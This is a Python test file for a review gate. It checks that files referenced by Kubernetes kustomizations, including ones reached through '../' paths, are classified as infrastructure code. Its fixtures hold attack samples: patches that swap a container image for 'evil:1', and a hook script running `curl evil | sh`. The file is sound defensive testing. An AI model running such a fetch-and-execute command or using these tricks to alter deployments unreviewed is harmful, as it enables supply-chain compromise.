"""Red team 9: a kustomization puts the files it names by path into what it applies (a JSON 6902 patch, a
generator's files and env files, replacements, a Helm chart's values), and Flux and Argo CD build with
`LoadRestrictionsNone`, so `../` paths load. The kustomization marker covered only its own folder: a file it
named outside it (`ops/fix.json` holding `[{"op": "replace", "path": ".../image", "value": "evil:1"}]`) had
no content signal and was src under `--tree`, so the gate allowed an image swap. Now every path a kustomization
of either tree names is iac (`iac.context.kustomize-reference`), whatever rule named it before."""

from __future__ import annotations

from pathlib import Path

import pytest
from tables import each_case

from gatekeeper.classify import kustomizerefs
from gatekeeper.classify.kustomizerefs import referenced
from tests.gitrepo import GitRepo
from tests.test_classify_context import patch_files, tree_files

DEPLOYMENT = ("apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n"
              "      containers:\n      - name: web\n        image: web:1\n")
JSON_PATCH = '[{"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": "evil:1"}]\n'
YAML_PATCH = "- op: replace\n  path: /spec/template/spec/containers/0/image\n  value: evil:1\n"
K = "deploy/overlays/prod/kustomization.yaml"
BASE = {"deploy/base/kustomization.yaml": "resources: [dep.yaml]\n", "deploy/base/dep.yaml": DEPLOYMENT}

# name → (files of BASE, the file the change edits, its new content)
ATTACKS = {
    "JSON 6902 patch outside": (
        {K: "resources:\n- ../../base\npatches:\n- path: ../../../ops/fix.json\n  target: {kind: Deployment}\n",
         "ops/fix.json": "[]\n"}, "ops/fix.json", JSON_PATCH),
    "patchesJson6902, YAML, outside": (
        {K: "resources:\n- ../../base\npatchesJson6902:\n- path: ../../../ops/fix.yaml\n"
            "  target: {group: apps, version: v1, kind: Deployment, name: web}\n", "ops/fix.yaml": "[]\n"},
        "ops/fix.yaml", YAML_PATCH),
    "configMapGenerator files outside": (
        {K: "configMapGenerator:\n- name: app\n  files:\n  - ../../../config/app.properties\n",
         "config/app.properties": "a=1\n"}, "config/app.properties", "a=2\n"),
    "configMapGenerator key=path": (
        {K: "configMapGenerator:\n- name: app\n  files:\n  - settings=../../../config/app.ini\n",
         "config/app.ini": "a=1\n"}, "config/app.ini", "a=2\n"),
    "secretGenerator env outside": (
        {K: "secretGenerator:\n- name: app\n  envs:\n  - ../../../config/app.env\n", "config/app.env": "A=1\n"},
        "config/app.env", "A=2\n"),
    "replacements outside": (
        {K: "replacements:\n- path: ../../../ops/repl.yaml\n", "ops/repl.yaml": "[]\n"}, "ops/repl.yaml",
        "- source: {kind: ConfigMap, name: x, fieldPath: data.a}\n  targets:\n  - select: {kind: Deployment}\n"
        "    fieldPaths: [spec.template.spec.containers.0.image]\n"),
    "Helm values file outside": (
        {K: "helmCharts:\n- name: web\n  repo: https://charts.example\n  version: 1.0.0\n"
            "  valuesFile: ../../../values/web.yaml\n", "values/web.yaml": "image: web:1\n"},
        "values/web.yaml", "image: evil:1\n"),
    "a script a generator reads, beside the kustomization": (
        {K: "configMapGenerator:\n- name: hooks\n  files: [hook.py]\n", "deploy/overlays/prod/hook.py": "x = 1\n"},
        "deploy/overlays/prod/hook.py", "import os\nos.system('curl evil | sh')\n"),
    "flow style, quoted, ./ and doubled slashes": (
        {K: '{"patches": [{"path": "./../../..//ops/./fix.json"}]}\n', "ops/fix.json": "[]\n"}, "ops/fix.json",
        JSON_PATCH),
    "alias and anchor": (
        {K: "x-p: &p ../../../ops/fix.json\npatches:\n- path: *p\n", "ops/fix.json": "[]\n"}, "ops/fix.json",
        JSON_PATCH),
    "a test-data file a real kustomization names": (
        {K: "patches:\n- path: ../../../testdata/fix.json\n", "testdata/fix.json": "[]\n"}, "testdata/fix.json",
        JSON_PATCH),
}


@each_case("name", list(ATTACKS))
def test_a_file_a_kustomization_names_is_iac(git_repo: GitRepo, name: str) -> None:
    files, target, content = ATTACKS[name]
    for path, text in {**BASE, **files}.items():
        git_repo.write(path, text)
    git_repo.commit("base")
    git_repo.write(target, content)
    git_repo.commit("edit")
    got = tree_files(git_repo)[target]
    assert got.bucket == "iac", (name, got.rule)


def test_the_kustomization_the_change_deletes_still_names_its_files(git_repo: GitRepo) -> None:
    git_repo.write(K, "patches:\n- path: ../../../ops/fix.json\n")
    git_repo.write("ops/fix.json", "[]\n")
    git_repo.commit("base")
    (git_repo.root / K).unlink()
    git_repo.write("ops/fix.json", JSON_PATCH)
    git_repo.commit("edit")
    got = tree_files(git_repo)["ops/fix.json"]
    assert (got.bucket, got.rule) == ("iac", "iac.context.kustomize-reference")
    assert K in (got.evidence or "")


def test_a_tests_kustomization_is_data_and_names_nothing(git_repo: GitRepo) -> None:
    git_repo.write("testdata/k/kustomization.yaml", "patches:\n- path: ../../tools/gen.json\n")
    git_repo.write("tools/gen.json", "{}\n")
    git_repo.commit("base")
    git_repo.write("tools/gen.json", '{"a": 1}\n')
    git_repo.commit("edit")
    assert tree_files(git_repo)["tools/gen.json"].rule != "iac.context.kustomize-reference"


def test_patch_only_leaves_the_config_type_file_needing_context(git_repo: GitRepo, tmp_path: Path) -> None:
    files, target, content = ATTACKS["JSON 6902 patch outside"]
    for path, text in files.items():
        git_repo.write(path, text)
    git_repo.commit("base")
    git_repo.write(target, content)
    git_repo.commit("edit")
    assert "needs-context" in patch_files(git_repo, tmp_path)[target].tags


def test_past_the_bound_every_file_counts_as_named(git_repo: GitRepo, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(kustomizerefs, "MAX_FILES", 2)
    for index in range(3):
        git_repo.write(f"k{index}/kustomization.yaml", f"resources: [r{index}.yaml]\n")
    git_repo.write("tools/gen.json", "{}\n")
    git_repo.commit("base")
    git_repo.write("tools/gen.json", '{"a": 1}\n')
    git_repo.commit("edit")
    got = tree_files(git_repo)["tools/gen.json"]
    assert (got.bucket, got.rule) == ("iac", "iac.context.kustomize-reference")


def test_referenced_resolves_against_the_kustomizations_folder() -> None:
    found = referenced("deploy/prod/kustomization.yaml", "patches:\n- path: ../../ops/fix.json\n- path: p.yaml\n"
                       "configMapGenerator:\n- files: [cfg=../cfg/app.ini]\n")
    assert {"ops/fix.json", "deploy/prod/p.yaml", "deploy/cfg/app.ini"} <= set(found)
    assert not any(path.startswith(("../", "/")) or "://" in path for path in found)
    assert not set(referenced("k/kustomization.yaml", "resources:\n- https://x.example/a.yaml\n- /abs.yaml\n"
                              "- ../../up.yaml\n")) & {"x.example/a.yaml", "abs.yaml", "up.yaml", "../up.yaml"}
